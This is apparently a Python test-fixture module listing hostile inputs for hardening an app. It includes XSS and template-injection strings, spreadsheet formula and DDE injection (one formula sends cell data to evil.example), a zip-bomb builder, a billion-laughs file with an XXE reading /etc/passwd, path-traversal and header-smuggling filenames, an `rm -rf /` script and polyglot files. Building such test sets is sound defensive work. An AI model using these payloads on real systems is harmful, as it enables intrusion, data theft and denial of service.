"""What hostile people send: markup, formulas, links, calls to everybody, signs that nobody sees, and files."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping, Sequence

MARKUP: Sequence[str] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}",
    "{{ config }}",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<x onclick=alert(1)>",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<!--<script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>]]>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<script/src=data:,alert(1)></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<<script>script>alert(1)<</script>/script>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=`x` onerror=`alert(1)`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<audio src onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "--><script>alert(1)</script><!--",
    "*/alert(1)/*",
    "';alert(1)//",
    '";alert(1)//',
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</dd></dl></main><script>alert(1)</script>",
    "</h1></body></html><script>alert(1)</script>",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{%- for x in ().__class__.__base__.__subclasses__() -%}{%- endfor -%}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&NewLine;javascript:alert(1)",
    "\u2028alert(1)\u2029",
    "<img src=x onerror=alert(1) //",
    "<p style=background:url(javascript:alert(1))>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<frameset onload=alert(1)>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
FORMULAS: Sequence[str] = (
    "=1+1",
    '=HYPERLINK("http://evil.example","点我")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd","/c calc","x")',
    "{=1+1}",
    '="a"&"b"',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "http://evil.example/",
    "https://evil.example/?a=1",
    "mailto:x@evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "internal:Sheet1!A1",
    "external:evil.xlsx",
    "ftp://evil.example",
    " =1+1",
    "\n=1+1",
    "=A1:B2",
    "=_xlfn.CONCAT(A1)",
    "＝1+1",
    "=1+1\x00",
)
MARKDOWN: Sequence[str] = (
    "@all",
    "@所有人",
    "<@all>",
    "<@userid>",
    "<@王敏>",
    "@everyone",
    "[点我](http://evil.example)",
    "**粗**",
    "# 标题",
    "> 引用",
    '<font color="warning">红</font>',
    "`代码`",
    "```\n代码\n```",
    "![x](http://evil.example/x.png)",
    "_斜_",
    "~~删~~",
    "| 表 | 格 |",
    "- 列表",
    "1. 列表",
    "<a href='tg://user?id=1'>王敏</a>",
    "tg://user?id=1",
    "/start",
    "/cancel@bot",
    "\u202e倒着写",
    "零\u200b宽",
    "\u2066x\u2069",
    "\ufeff头",
    "a\u0300" * 40,
    "👨‍👩‍👧" * 20,
    "\x00\x01\x1b[31m红",
    "𠮷" * 30,
    "\ud7ff",
    "&nbsp;&#x3c;b&#x3e;",
    "{number}",
    "{0}",
    "%s%n",
    "{name!r}",
    "{park.__class__}",
    "<b>粗</b>",
    "</b></i>",
)
PAYLOADS: Sequence[str] = (*MARKUP, *FORMULAS, *MARKDOWN)


def packed(members: Mapping[str, bytes | str]) -> bytes:
    """A zip with these members; `__` stands for a slash, `_dot_` for a dot in a name."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, data in members.items():
            pack.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return content.getvalue()


def bomb() -> bytes:
    """A workbook whose one sheet unpacks to 300 MB."""
    return packed(
        {
            "[Content_Types]_dot_xml": "<Types/>",
            "xl__workbook_dot_xml": "<workbook/>",
            "xl__worksheets__sheet1_dot_xml": b"\0" * 300_000_000,
        }
    )


def laughs() -> bytes:
    """A workbook with entities that grow without end."""
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    evil = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "哈">{lol}]><sst><si><t>&l9;</t></si></sst>'
    return packed(
        {
            "[Content_Types]_dot_xml": "<Types/>",
            "xl__workbook_dot_xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><workbook>&e;</workbook>",
            "xl__sharedStrings_dot_xml": evil,
        }
    )


NAMES: Sequence[str] = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\x.dll",
    "/etc/cron.d/x",
    "C:\\autoexec.bat",
    "a\x00.jpg",
    "照片.jpg.exe",
    "报告.pdf.html",
    "\u202egpj.exe",
    "a" * 300 + ".jpg",
    ".htaccess",
    "..",
    ".",
    "",
    "con.txt",
    "x\r\nSet-Cookie: a=1.jpg",
    'a"; filename="evil.html',
    "<script>.jpg",
    "%2e%2e%2fpasswd",
    "a/b/c.png",
    "x;y.png",
)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>alert(1)</script>"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
REFUSED: Sequence[tuple[str, bytes]] = (
    ("图.svg", SVG),
    ("图.png", SVG),
    ("页.html", HTML),
    ("页.jpg", HTML),
    ("空.jpg", b""),
    ("x.exe", b"MZ" + b"\0" * 60),
    ("x.jpg", b"\x7fELF" + b"\0" * 60),
    ("x.sh", b"#!/bin/sh\nrm -rf /"),
    ("x.zip", packed({"a": b"1"})),
    ("x.xml", b"<?xml version='1.0'?>"),
    ("x.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 60),
    ("x.swf", b"FWS" + b"\0" * 60),
    ("x.hta", b"<hta:application>"),
    (
        "宏.docm",
        packed({"word__document_dot_xml": "x", "word__vbaProject_dot_bin": b"x", "[Content_Types]_dot_xml": "x"}),
    ),
)
POLYGLOTS: Sequence[tuple[str, bytes]] = (
    ("a.png", PNG + HTML),
    ("a.gif", b"GIF89a/*" + HTML + b"*/=1;"),
    ("a.jpg", b"\xff\xd8\xff\xe0" + SVG),
    ("a.pdf", b"%PDF-1.7\n" + HTML),
    ("a.html", PNG),
    ("a.svg", b"GIF89a"),
)
